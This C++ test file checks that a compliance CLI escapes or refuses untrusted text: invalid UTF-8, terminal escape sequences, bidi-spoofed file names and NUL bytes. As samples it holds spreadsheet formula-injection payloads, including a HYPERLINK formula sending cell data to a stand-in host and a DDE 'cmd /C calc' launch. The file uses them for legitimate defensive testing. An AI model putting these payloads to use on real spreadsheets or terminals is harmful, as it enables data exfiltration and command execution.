// Untrusted text through the CLI: arguments, terminal output, JSON and CSV output, imports and the
// repair of text an older build stored (docs/reliability.md, "Untrusted text").
#include "TestSupport.h"

#include <SQLiteCpp/Database.h>
#include <SQLiteCpp/Statement.h>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include <filesystem>

using cwtest::runCli;

namespace {

struct DemoWorkspace {
    cwtest::TempDir dir;
    std::string file = (dir / "demo.cwb").string();
    DemoWorkspace() { REQUIRE(runCli({"init", file, "--demo", "--lang", "en"}).exitCode == 0); }

    /// Stores `value` as it is (bytes, no checks), as an older build or another tool could have.
    void store(const std::string& sql, const std::string& value) const
    {
        SQLite::Database db(file, SQLite::OPEN_READWRITE);
        SQLite::Statement q(db, sql);
        q.bind(1, value);
        REQUIRE(q.exec() >= 1);
    }
    [[nodiscard]] std::string firstFindingCode() const
    {
        SQLite::Database db(file, SQLite::OPEN_READONLY);
        return db.execAndGet("SELECT code FROM finding ORDER BY id LIMIT 1").getString();
    }
    [[nodiscard]] std::string exported() const
    {
        const auto r = runCli({"export", file});
        REQUIRE(r.exitCode == 0);
        return r.out;
    }
};

constexpr const char* kFirstFinding = "UPDATE finding SET title = ? WHERE id = (SELECT min(id) FROM finding)";

} // namespace

TEST_CASE("an argument that is not UTF-8 is refused before any command runs, naming it", "[cli][text]")
{
    DemoWorkspace d;
    const std::string before = d.exported();
    const auto name = runCli({"engagement", "set", d.file, "name", "Hengyun \xff Data"});
    CHECK(name.exitCode == 3);
    CHECK_THAT(name.err, Catch::StartsWith("conformance: argument 5 'Hengyun \xEF\xBF\xBD Data' is not valid "
                                           "UTF-8 (byte 0xff at offset 8)"));
    const auto notes = runCli({"gap", "record", d.file, "8.2.3", "--notes", "caf\xC3("});
    CHECK(notes.exitCode == 3);
    CHECK_THAT(notes.err, Catch::Contains("argument 6 (the value of --notes)"));
    CHECK_THAT(notes.err, Catch::Contains("(byte 0xc3 at offset 3)"));
    // Overlong forms and surrogates are not UTF-8 either.
    CHECK(runCli({"engagement", "set", d.file, "name", "\xC0\xAF"}).exitCode == 3);
    CHECK(runCli({"engagement", "set", d.file, "name", "\xED\xA0\x80"}).exitCode == 3);
    CHECK(d.exported() == before);
    // Valid text in any script is untouched.
    CHECK(runCli({"engagement", "set", d.file, "name", "恒云 ISO/IEC 20000-1"}).exitCode == 0);
}

TEST_CASE("findings show and list print stored controls and escapes escaped, JSON keeps them", "[cli][text]")
{
    DemoWorkspace d;
    d.store(kFirstFinding, "Backups \x1b]0;owned\x07\x1b[2J not \xE2\x80\xAE"
                           "fdp.exe tested\xC2\x9B");
    d.store("UPDATE finding SET statement = ? WHERE id = (SELECT min(id) FROM finding)",
            "Line one\n\tindented\rreturn");
    const std::string code = d.firstFindingCode();
    const auto show = runCli({"findings", "show", d.file, code});
    REQUIRE(show.exitCode == 0);
    CHECK(show.out.find('\x1b') == std::string::npos);
    CHECK(show.out.find('\x07') == std::string::npos);
    CHECK(show.out.find('\r') == std::string::npos);
    CHECK(show.out.find("\xE2\x80\xAE") == std::string::npos);
    CHECK_THAT(show.out, Catch::Contains(code + "  Backups \\x1b]0;owned\\x07\\x1b[2J not \\u202efdp.exe "
                                                "tested\\u009b\n"));
    CHECK_THAT(show.out, Catch::Contains("Line one\n\tindented\\x0dreturn\n"));

    const auto list = runCli({"findings", "list", d.file});
    REQUIRE(list.exitCode == 0);
    CHECK(list.out.find('\x1b') == std::string::npos);
    CHECK_THAT(list.out, Catch::Contains("Backups \\x1b]0;owned"));

    const auto json = runCli({"findings", "show", d.file, code, "--format", "json"});
    REQUIRE(json.exitCode == 0);
    CHECK(nlohmann::json::parse(json.out)["title"] == "Backups \x1b]0;owned\x07\x1b[2J not \xE2\x80\xAE"
                                                      "fdp.exe tested\xC2\x9B");
}

TEST_CASE("JSON outputs survive text that is not UTF-8, check names it and repair-text repairs it",
          "[cli][text]")
{
    DemoWorkspace d;
    d.store(kFirstFinding, "Bad \xff title");
    d.store("UPDATE engagement SET name = ?", "Hengyun \xC3");
    d.store("UPDATE catalog SET title_en = ? WHERE id = 'iso20000-1:2018'", "ISO \xFE 20000");
    // Every JSON output replaces the bytes instead of failing (exit 5 before).
    const auto exported = runCli({"export", d.file});
    REQUIRE(exported.exitCode == 0);
    CHECK_THAT(exported.out, Catch::Contains("\"Bad \xEF\xBF\xBD title\""));
    for (const std::vector<std::string>& args :
         {std::vector<std::string>{"log", d.file, "--format", "json"},
          {"report", d.file, "--format", "json"},
          {"gap", "summary", d.file, "--format", "json"},
          {"catalog", "show", "iso20000-1:2018", "--workspace", d.file, "--format", "json"},
          {"findings", "list", d.file, "--format", "json"},
          {"engagement", "show", d.file, "--format", "json"}}) {
        INFO(args[0] << " " << args[1]);
        const auto r = runCli(args);
        CHECK(r.exitCode == 0);
        CHECK(r.err.empty());
        CHECK(nlohmann::json::parse(r.out).is_structured());
    }
    const auto check = runCli({"check", d.file});
    CHECK(check.exitCode == 4);
    CHECK_THAT(check.err, Catch::Contains("3 problem(s)"));
    CHECK_THAT(check.err, Catch::Contains("text: engagement 1, field name is not valid UTF-8"));
    CHECK_THAT(check.err, Catch::Contains("field title is not valid UTF-8 (run 'conformance repair-text'"));
    CHECK_THAT(check.err, Catch::Contains("text: catalog iso20000-1:2018, field title_en"));

    const auto dry = runCli({"repair-text", d.file, "--dry-run"});
    CHECK(dry.exitCode == 0);
    CHECK_THAT(dry.out, Catch::EndsWith("3 field(s) hold text that is not valid UTF-8\n"));
    const auto logBefore = runCli({"log", d.file, "--format", "json"});
    const auto trailBefore = nlohmann::json::parse(logBefore.out).size();

    const auto repair = runCli({"repair-text", d.file});
    CHECK(repair.exitCode == 0);
    CHECK_THAT(repair.out, Catch::Contains("repaired engagement 1, field name\n"));
    CHECK_THAT(repair.out, Catch::Contains("Repaired 3 field(s) in "));
    CHECK(runCli({"check", d.file}).exitCode == 0);
    CHECK(runCli({"verify", d.file}).exitCode == 0);
    // One action, one trail entry per field: the stored bytes as old value, the repair as new.
    const auto log = nlohmann::json::parse(runCli({"log", d.file, "--format", "json"}).out);
    REQUIRE(log.size() == trailBefore + 3);
    int repairs = 0;
    for (const auto& e : log) {
        if (e.dump().find("Repair invalid text") == std::string::npos)
            continue;
        ++repairs;
        if (e.dump().find("\"name\"") != std::string::npos) {
            CHECK(e.dump().find("Hengyun \xEF\xBF\xBD") != std::string::npos);
        }
    }
    CHECK(repairs == 3);
    // The repaired text is what JSON output showed before: nothing else changed.
    CHECK(runCli({"export", d.file}).out == exported.out);
    // A second run finds nothing and writes nothing.
    const auto again = runCli({"repair-text", d.file});
    CHECK(again.exitCode == 0);
    CHECK_THAT(again.out, Catch::Contains("Repaired 0 field(s)"));
    CHECK(nlohmann::json::parse(runCli({"log", d.file, "--format", "json"}).out).size() == log.size());
}

TEST_CASE("CSV lists and reports neutralise cells a spreadsheet would read as a formula", "[cli][text]")
{
    DemoWorkspace d;
    d.store(kFirstFinding, "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")");
    d.store("UPDATE finding SET raised_by = ? WHERE id = (SELECT min(id) FROM finding)", "@SUM(1+1)");
    d.store("UPDATE document SET title = ? WHERE id = (SELECT min(id) FROM document)", "+cmd|' /C calc'!A0");
    d.store("UPDATE document SET owner = ? WHERE id = (SELECT min(id) FROM document)", "-3");
    d.store("UPDATE audit SET title = ? WHERE id = (SELECT min(id) FROM audit)", "\t=1+2");
    REQUIRE(
        runCli({"gap", "record", d.file, "8.2.3", "--status", "nonconformant", "--notes=-2+3"}).exitCode ==
        0);

    const auto findings = runCli({"findings", "list", d.file, "--format", "csv"});
    REQUIRE(findings.exitCode == 0);
    CHECK_THAT(findings.out,
               Catch::Contains(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\","));
    CHECK_THAT(findings.out, Catch::Contains(",'@SUM(1+1),"));
    const auto docs = runCli({"docs", "list", d.file, "--format", "csv"});
    REQUIRE(docs.exitCode == 0);
    CHECK_THAT(docs.out, Catch::Contains(",'+cmd|' /C calc'!A0,"));
    CHECK_THAT(docs.out, Catch::Contains(",-3,")); // a plain number stays a number
    const auto audits = runCli({"audits", "list", d.file, "--format", "csv"});
    REQUIRE(audits.exitCode == 0);
    CHECK_THAT(audits.out, Catch::Contains(",'\t=1+2,"));
    const auto gaps = runCli({"gap", "list", d.file, "--format", "csv"});
    REQUIRE(gaps.exitCode == 0);
    CHECK_THAT(gaps.out, Catch::Contains(",'-2+3,"));
    const auto report = runCli({"report", d.file, "--kind", "findings", "--format", "csv"});
    REQUIRE(report.exitCode == 0);
    CHECK_THAT(report.out, Catch::Contains("'=HYPERLINK("));
    CHECK(report.out.find(",=HYPERLINK(") == std::string::npos);
    CHECK(report.out.find(",\"=HYPERLINK(") == std::string::npos);
}

TEST_CASE("import refuses duplicate keys and future record dates, leaving the workspace as it was",
          "[cli][text]")
{
    DemoWorkspace d;
    const std::string text = d.exported();
    cwtest::TempDir dir;
    const std::string target = (dir / "target.cwb").string();
    REQUIRE(runCli({"init", target}).exitCode == 0);
    const auto empty = runCli({"export", target}).out;

    // A key twice: nlohmann keeps the last one silently; the import names the path.
    const auto at = text.find("\"engagement\": {");
    REQUIRE(at != std::string::npos);
    std::string dup = text;
    dup.insert(at + std::string("\"engagement\": {").size(), "\n    \"name\": \"Shadow engagement\",");
    cwtest::writeFile(dir / "dup.json", dup);
    const auto dupImport = runCli({"import", target, (dir / "dup.json").string()});
    CHECK(dupImport.exitCode == 3);
    CHECK_THAT(dupImport.err,
               Catch::Contains("dup.json: $.engagement.name: the key appears twice in the object"));
    CHECK(runCli({"export", target}).out == empty);

    // A record entry dated after today (CW_TODAY 2026-11-22), refused as `docs` commands refuse it.
    auto doc = nlohmann::json::parse(text);
    bool changed = false;
    std::size_t docIndex = 0, entryIndex = 0;
    for (std::size_t i = 0; i < doc["documents"].size() && !changed; ++i) {
        auto& entries = doc["documents"][i]["record_entries"];
        if (entries.is_array() && !entries.empty()) {
            entries[0]["date"] = "2026-11-23";
            docIndex = i;
            changed = true;
        }
    }
    REQUIRE(changed);
    cwtest::writeFile(dir / "future.json", doc.dump(2));
    const auto future = runCli({"import", target, (dir / "future.json").string()});
    CHECK(future.exitCode == 3);
    CHECK_THAT(future.err, Catch::Contains("$.documents[" + std::to_string(docIndex) + "].record_entries[" +
                                           std::to_string(entryIndex) +
                                           "].date: the record entry date 2026-11-23 is in the future "
                                           "(today is 2026-11-22)"));
    CHECK(runCli({"export", target}).out == empty);
}

TEST_CASE("attachment names with bidi controls and codes with NUL are refused", "[cli][text]")
{
    DemoWorkspace d;
    const std::string before = d.exported();
    cwtest::TempDir dir;
    const auto spoof = dir / "invoice\xE2\x80\xAE"
                             "fdp.exe";
    cwtest::writeFile(spoof, "MZ");
    const auto attach = runCli({"docs", "attach", d.file, "SMS-L2-INC-01", spoof.string()});
    CHECK(attach.exitCode == 3);
    CHECK_THAT(attach.err, Catch::Contains("cannot name an attachment: it holds the bidirectional control "
                                           "U+202E at offset 7"));
    CHECK(attach.err.find("\xE2\x80\xAE") == std::string::npos); // shown escaped on the terminal
    CHECK_THAT(attach.err, Catch::Contains("invoice\\u202efdp.exe"));
    CHECK(d.exported() == before);

    // The same through an import: a finding code holding NUL (valid JSON: "\u0000").
    auto doc = nlohmann::json::parse(before);
    REQUIRE(!doc["findings"].empty());
    doc["findings"][0]["code"] = std::string("NC-2026-\0"
                                             "01",
                                             11);
    cwtest::writeFile(dir / "nul.json", doc.dump(2));
    const std::string target = (dir / "target.cwb").string();
    REQUIRE(runCli({"init", target}).exitCode == 0);
    const auto nul = runCli({"import", target, (dir / "nul.json").string()});
    CHECK(nul.exitCode == 3);
    CHECK_THAT(nul.err, Catch::Contains("the code cannot be used: it holds the control character U+0000 at "
                                        "offset 8"));
    CHECK_THAT(nul.err, Catch::Contains("NC-2026-\\x0001"));
}

TEST_CASE("every free-text field of the demo holding escapes and invalid UTF-8: outputs survive, repair "
          "repairs all",
          "[cli][text]")
{
    DemoWorkspace d;
    // What an older build could store: ESC [2J and a stray byte appended to every text field the
    // user or an import writes (identifiers, dates, hashes and enumerations are left alone).
    std::int64_t rows = 0;
    int columns = 0;
    {
        SQLite::Database db(d.file, SQLite::OPEN_READWRITE);
        std::vector<std::string> tables;
        SQLite::Statement t(db,
                            "SELECT name FROM sqlite_schema WHERE type = 'table' AND sql NOT LIKE "
                            "'CREATE VIRTUAL%' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE "
                            "'document_search%' AND name NOT IN ('meta', 'audit_trail', 'trail_checkpoint')");
        while (t.executeStep())
            tables.push_back(t.getColumn(0).getString());
        for (const auto& table : tables) {
            std::vector<std::string> cols;
            // Not keys, nor columns that refer to keys (a clause's parent_ref, a result's ref).
            SQLite::Statement info(db, "SELECT name FROM pragma_table_info(?1) WHERE pk = 0 AND name NOT IN "
                                       "(SELECT \"from\" FROM pragma_foreign_key_list(?1))");
            info.bind(1, table);
            while (info.executeStep())
                cols.push_back(info.getColumn(0).getString());
            for (const auto& c : cols) {
                const std::string free = "typeof(" + c + ") = 'text' AND " + c + " GLOB '*[^a-z0-9_:.,/ -]*'";
                try {
                    const int n = db.exec("UPDATE " + table + " SET " + c + " = " + c +
                                          " || X'1B5B324AFF' WHERE " + free);
                    rows += n;
                    columns += n > 0 ? 1 : 0;
                } catch (const SQLite::Exception&) {
                    // a CHECK constraint: the program never stores such a value
                }
            }
        }
    }
    INFO(columns << " columns, " << rows << " fields");
    REQUIRE(columns >= 30);
    for (const std::vector<std::string>& args :
         {std::vector<std::string>{"export", d.file},
          {"log", d.file, "--format", "json"},
          {"report", d.file, "--format", "json"},
          {"report", d.file, "--kind", "findings", "--format", "json"},
          {"gap", "summary", d.file, "--format", "json"},
          {"gap", "list", d.file, "--format", "json"},
          {"catalog", "show", "iso20000-1:2018", "--workspace", d.file, "--format", "json"},
          {"findings", "list", d.file, "--format", "json"},
          {"docs", "list", d.file, "--format", "json"},
          {"audits", "list", d.file, "--format", "json"},
          {"review", "list", d.file, "--format", "json"},
          {"engagement", "show", d.file, "--format", "json"},
          {"info", d.file, "--format", "json"}}) {
        INFO(args[0] << " " << args[1]);
        const auto r = runCli(args);
        CHECK(r.exitCode == 0);
        CHECK(r.err.empty());
        CHECK(nlohmann::json::parse(r.out).is_structured());
    }
    for (const std::vector<std::string>& args : {std::vector<std::string>{"findings", "list", d.file},
                                                 {"docs", "list", d.file},
                                                 {"audits", "list", d.file},
                                                 {"gap", "summary", d.file},
                                                 {"gap", "list", d.file},
                                                 {"review", "list", d.file},
                                                 {"engagement", "show", d.file},
                                                 {"info", d.file},
                                                 {"log", d.file, "--limit", "500"}}) {
        INFO(args[0] << " " << args[1]);
        const auto r = runCli(args);
        CHECK(r.exitCode == 0);
        CHECK(r.out.find('\x1b') == std::string::npos);
        CHECK(r.out.find('\xff') == std::string::npos);
    }
    const auto check = runCli({"check", d.file});
    CHECK(check.exitCode == 4);
    CHECK_THAT(check.err, Catch::Contains(std::to_string(rows) + " problem(s)"));
    const auto repair = runCli({"repair-text", d.file});
    CHECK(repair.exitCode == 0);
    CHECK_THAT(repair.out, Catch::Contains("Repaired " + std::to_string(rows) + " field(s)"));
    CHECK(runCli({"check", d.file}).exitCode == 0);
    CHECK(runCli({"verify", d.file}).exitCode == 0);
}

TEST_CASE("repair-text leaves keys alone and refuses a repair that makes two codes equal", "[cli][text]")
{
    DemoWorkspace d;
    // Two finding codes that differ only in their invalid byte: both would become "NC-\uFFFD".
    {
        SQLite::Database db(d.file, SQLite::OPEN_READWRITE);
        db.exec("UPDATE finding SET code = 'NC-' || X'FF' WHERE id = (SELECT min(id) FROM finding)");
        db.exec("UPDATE finding SET code = 'NC-' || X'FE' WHERE id = (SELECT max(id) FROM finding)");
    }
    const std::string before = d.exported();
    const auto trail = runCli({"log", d.file, "--format", "json"}).out;
    const auto collide = runCli({"repair-text", d.file});
    CHECK(collide.exitCode == 3);
    CHECK_THAT(collide.err,
               Catch::Contains(", field code: the repaired text 'NC-\xEF\xBF\xBD' is already used by "
                               "another row; rename one of them, then repair again"));
    CHECK(d.exported() == before);
    CHECK(runCli({"log", d.file, "--format", "json"}).out == trail);

    // A key (here a setting's name) is listed, not changed; the other fields are repaired.
    DemoWorkspace k;
    {
        SQLite::Database db(k.file, SQLite::OPEN_READWRITE);
        db.exec("INSERT INTO settings(key, value) VALUES ('stray' || X'FF', 'x')");
    }
    k.store(kFirstFinding, "Bad \xff title");
    const auto repair = runCli({"repair-text", k.file});
    CHECK(repair.exitCode == 4);
    CHECK_THAT(repair.out,
               Catch::Contains("not repaired settings stray\xEF\xBF\xBD, field key: a key or a reference "
                               "to one"));
    CHECK_THAT(repair.out, Catch::Contains("Repaired 1 field(s)"));
    const auto check = runCli({"check", k.file});
    CHECK(check.exitCode == 4);
    CHECK_THAT(check.err, Catch::Contains("1 problem(s)"));
    CHECK_THAT(check.err, Catch::Contains("text: settings stray\xEF\xBF\xBD, field key is not valid UTF-8"));
}
